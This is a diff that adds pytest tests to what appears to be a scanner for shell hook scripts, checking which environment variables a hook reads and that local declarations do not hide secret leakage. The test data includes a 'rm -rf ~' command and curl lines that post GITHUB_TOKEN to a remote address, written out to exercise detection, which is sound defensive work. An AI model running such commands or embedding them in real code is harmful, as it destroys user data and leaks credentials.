@@ -98,3 +98,56 @@ def test_the_harmless_neighbours_have_no_finding(script: str) -> None:
 def test_several_lists_of_positional_parameters_are_computed() -> None:
     script = 'if [ "$A" ]; then set -- rm -rf ~; else set -- ls; fi; "$@"'
     assert "V-RUN-COMPUTED" in rules_of(script)
+
+
+def variables_of(script: str) -> tuple[str, ...]:
+    (hook,) = vet({"hook.sh": script.encode()}, observe=False).hooks
+    return hook.capabilities.variables
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'declare -a a; echo "${a[@]}"',
+        'declare -A seen; [ "${seen[x]}" ] || seen[x]=1; echo "${!seen[@]}"',
+        'typeset -a a; f() { echo "${a[0]}"; }; f',
+        'f() { local -a a; local b; echo "${a[@]} $b"; }; f',
+        'f() { local -n out=$1; out=(1); }; f a; echo "${a[@]}"',
+        'a+=(x); echo "${a[@]}"',
+        'a[0]=x; echo "${a[0]}"',
+        'if [ "$1" ]; then a=(1); fi; echo "${a[@]} ${#a[@]} ${a[-1]}"',
+        "printf -v 'a[0]' x; echo \"${a[0]}\"",
+        "(( a[3] = 4, b = 2 )); echo ${a[3]} $b",
+        "let a=4; echo $a",
+        "exec {fd}>/dev/null; echo $fd",
+        "wait -n -p id; echo $id",
+        'mapfile -t a; echo "${a[@]} ${MAPFILE[0]}"',
+        'IFS=, read -ra a; echo "${a[@]}"',
+        "export A=1; declare B=2; readonly C=3; f() { local d=4; }; f; echo $A $B $C",
+        "declare -x A=1; echo $A",
+    ],
+)
+def test_what_a_script_declares_is_its_own(script: str) -> None:
+    assert variables_of(script) == ()
+
+
+@pytest.mark.parametrize(
+    ("script", "names"),
+    [
+        ('echo "$UNSET ${A[0]}"', ("A", "UNSET")),
+        ("export", ("*",)),
+        ("declare -x", ("*",)),
+        ("declare a; echo $a", ("a",)),
+        ("(( a++ )); (( b == 1 )); echo $b", ("b",)),
+        # a declaration hides neither a secret nor a place: it may be of another function
+        ('f() { local HOME GITHUB_TOKEN; }; f; curl -d "$GITHUB_TOKEN" "$HOME"', ("GITHUB_TOKEN", "HOME")),
+        ('declare -a AWS_SECRET_ACCESS_KEY; echo "${AWS_SECRET_ACCESS_KEY[@]}"', ("AWS_SECRET_ACCESS_KEY",)),
+    ],
+)
+def test_variables_of_the_environment_are_listed(script: str, names: tuple[str, ...]) -> None:
+    assert variables_of(script) == names
+
+
+def test_a_declaration_does_not_hide_that_a_secret_leaves() -> None:
+    script = 'f() { local -a GITHUB_TOKEN; }; f; curl -d "$GITHUB_TOKEN" https://example.org'
+    assert rules_of(script) == rules_of('curl -d "$GITHUB_TOKEN" https://example.org') != set()
